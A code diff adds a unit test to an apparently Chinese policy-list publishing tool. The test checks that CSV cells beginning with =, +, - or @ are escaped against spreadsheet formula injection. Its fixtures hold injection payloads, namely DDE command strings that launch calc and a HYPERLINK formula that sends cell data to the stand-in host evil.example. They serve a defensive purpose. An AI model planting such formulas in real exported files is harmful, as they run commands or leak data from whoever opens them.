@@ -327,3 +327,26 @@ def test_aliases_contacts_editor_links_and_lists_in_a_small_project(tmp_path):
     assert load(files, "documents")["documents"][0]["date"] == "2020-05"
     [row] = rows(files)  # the general card is not a measure
     assert (row["文号"], row["牵头单位"], row["时限"]) == ("示政发〔2020〕1号", "示例市发展和改革委员会", "2020年6月底前、2020年内")
+
+
+def test_no_cell_of_the_policy_list_starts_a_spreadsheet_formula(tmp_path):
+    """OWASP's CSV injection: a cell starting with = + - @ (or a tab or CR) runs as a formula."""
+    project = Project(tmp_path / "p")
+    project.write("content/regions.yaml", "- {name: 示例市, level: 市}\n")
+    project.write("content/agencies.yaml", "- name: '@SUM(1+1)*cmd|'' /C calc''!A0'\n  level: 市\n  region: 示例市\n")
+    project.document(doc_number="=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")")
+    project.card("1", title="-2+3+cmd|' /C calc'!A0", heading=["+第一章"], agencies={"lead": ["@SUM(1+1)*cmd|' /C calc'!A0"]},
+                 time_limits=["\t=1+1", " =2+2"])
+    project.card("2", title="降低 - 成本 = 增效", time_limits=["\r=3+3"])
+    library, config = library_of(project.root)
+    files = data_files(library, config)
+    one, two = rows(files)
+    assert one["文号"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
+    assert one["标题"] == "'-2+3+cmd|' /C calc'!A0" and one["章节"] == "'+第一章"
+    assert one["牵头单位"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert one["时限"] == "'\t=1+1、 =2+2" and two["时限"] == "'\r=3+3"
+    assert two["标题"] == "降低 - 成本 = 增效"  # only a cell's start matters: the rest is left as it is
+    for row in (one, two):
+        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row.values()), row
+    card = load(files, "cards")["cards"][0]  # JSON is not a spreadsheet: the text as written
+    assert card["title"] == "-2+3+cmd|' /C calc'!A0"
